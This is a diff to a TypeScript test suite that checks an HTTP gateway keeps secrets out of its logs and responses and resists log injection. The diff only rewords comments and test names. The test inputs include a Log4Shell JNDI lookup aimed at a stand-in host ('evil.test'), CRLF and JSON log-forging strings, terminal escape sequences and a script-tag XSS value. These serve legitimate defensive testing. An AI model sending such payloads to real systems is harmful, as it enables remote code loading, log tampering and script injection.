@@ -1,5 +1,5 @@
 /**
- * What a request leaves in the log and in answers: no credential, no query, no line of its own making, bounded length
+ * What a request leaves in the log and in responses: no credential, no query, no line of its own, bounded length
  * (CVE-2020-8565, CVE-2021-44228).
  */
 import { afterAll, beforeAll, expect, test, vi } from 'vitest';
@@ -13,12 +13,12 @@ beforeAll(async () => {
 });
 afterAll(() => world.close());
 
-/** Text that must be found nowhere. */
+/** Text that must not appear anywhere. */
 const secret = 'SeCrEt-0123456789';
 
 const requests: readonly (readonly [name: string, bytes: string])[] = [
-  ['a good bearer', request('GET /private/x', [bearer])],
-  ['a bad bearer', request('GET /private/x', [`Authorization: Bearer ${secret}`])],
+  ['a valid bearer', request('GET /private/x', [bearer])],
+  ['an invalid bearer', request('GET /private/x', [`Authorization: Bearer ${secret}`])],
   ['a malformed bearer', request('GET /private/x', [`Authorization: Bearer "${secret}"`])],
   ['another scheme', request('GET /private/x', [`Authorization: Basic ${secret}`])],
   [
@@ -26,25 +26,25 @@ const requests: readonly (readonly [name: string, bytes: string])[] = [
     request('GET /private/x', [`Authorization: Bearer ${secret}`, `Authorization: Bearer ${secret}`]),
   ],
   ['a key pair', request('GET /private/x', [`Api-Key: ${secret}`, `Api-Secret: ${secret}`])],
-  ['half a key pair', request('GET /private/x', [`Api-Secret: ${secret}`])],
+  ['half of a key pair', request('GET /private/x', [`Api-Secret: ${secret}`])],
   ['a query', request(`GET /public/x?token=${secret}`)],
-  ['a query of a refused request', request(`GET /admin/x?token=${secret}`)],
-  ['a query behind a refused path', request(`GET /public/%2e%2e/x?token=${secret}`)],
-  ['a query of an absolute form', request(`GET http://a.test/x?token=${secret}`)],
+  ['the query of a refused request', request(`GET /admin/x?token=${secret}`)],
+  ['the query after a refused path', request(`GET /public/%2e%2e/x?token=${secret}`)],
+  ['the query of an absolute form', request(`GET http://a.test/x?token=${secret}`)],
   ['a user in the target', request(`GET http://${secret}:${secret}@a.test/x`)],
   ['a cookie', request('GET /admin/x', [`Cookie: session=${secret}`])],
   ['a body', request('POST /admin/x', [`Content-Length: ${secret.length}`], secret)],
-  ['a header that is malformed', request('GET /x', [`Authorization : Bearer ${secret}`])],
+  ['a malformed header', request('GET /x', [`Authorization : Bearer ${secret}`])],
   ['a header that is too long', request('GET /x', [`Authorization: Bearer ${secret.repeat(2000)}`])],
   [
     'a trailer',
     request('POST /admin/x', ['Transfer-Encoding: chunked'], `0\r\nAuthorization: Bearer ${secret}\r\n\r\n`),
   ],
   ['a proxy credential', request('GET /admin/x', [`Proxy-Authorization: Basic ${secret}`])],
-  ['bytes that are no HTTP', `${secret}\r\n\r\n`],
+  ['bytes that are not HTTP', `${secret}\r\n\r\n`],
 ];
 
-/** Lines that a request of its own marker left in the log. */
+/** Log lines of a request, found by its own marker. */
 async function logged(bytes: string): Promise<string> {
   const before = world.gateway.logText().length;
   await sendRaw(world.gateway.port, Buffer.from(bytes, 'latin1'), 'POST').catch(() => null);
@@ -61,7 +61,7 @@ test.each(requests)('no secret is logged: %s', async (_, bytes) => {
   }
 });
 
-test('control: what may be logged, such as a path, is found where the secrets are looked for', async () => {
+test('control: what may be logged, such as a path, is found where the secrets are searched', async () => {
   expect(await logged(request(`GET /public/${secret}`))).toContain(secret);
   const answer = await sendRaw(world.gateway.port, request(`GET /public/${secret}`));
   expect(answer.text()).toContain(secret);
@@ -71,10 +71,10 @@ const injections: readonly (readonly [name: string, bytes: string])[] = [
   ['CR LF escapes in the query', request('GET /public/x?a=%0d%0a{"level":"info"}')],
   ['a host', request('GET /x').replace('a.test', `\${jndi:ldap://evil.test/a}`)],
   ['a host with a quotation mark', request('GET /x').replace('a.test', 'a","level":"fatal')],
-  ['a path with escapes of JSON', request('GET /public/%22,%22level%22:%22fatal%22')],
+  ['a path with JSON escapes', request('GET /public/%22,%22level%22:%22fatal%22')],
   ['a path with a backslash', request('GET /public/\\",\\"level\\":\\"fatal')],
   ['a method', request('G","level":"fatal /x')],
-  ['an escape sequence of terminals', request('GET /public/%1b[2J')],
+  ['a terminal escape sequence', request('GET /public/%1b[2J')],
   ['a raw escape character', request('GET /public/\x1b[2J')],
   ['a user agent', request('GET /x', ['User-Agent: \x1b]0;evil\x07'])],
   ['a request id', request('GET /x', ['X-Request-Id: a","level":"fatal'])],
@@ -104,7 +104,7 @@ test.each([
   ['a method', request('X-Injected /admin/x')],
   ['an origin', request('GET /admin/x', ['Origin: https://evil.test'])],
   ['a request id', request('GET /admin/x', ['X-Request-Id: <script>alert(1)</script>'])],
-])('a refusal repeats nothing of the request: %s', async (_, bytes) => {
+])('a refusal repeats nothing from the request: %s', async (_, bytes) => {
   const answer = await sendRaw(world.gateway.port, bytes);
   expect(answer.status).toBeGreaterThanOrEqual(400);
   for (const echo of echoes) expect(`${answer.rawHeaders.join('\n')}\n${answer.text()}`).not.toContain(echo);
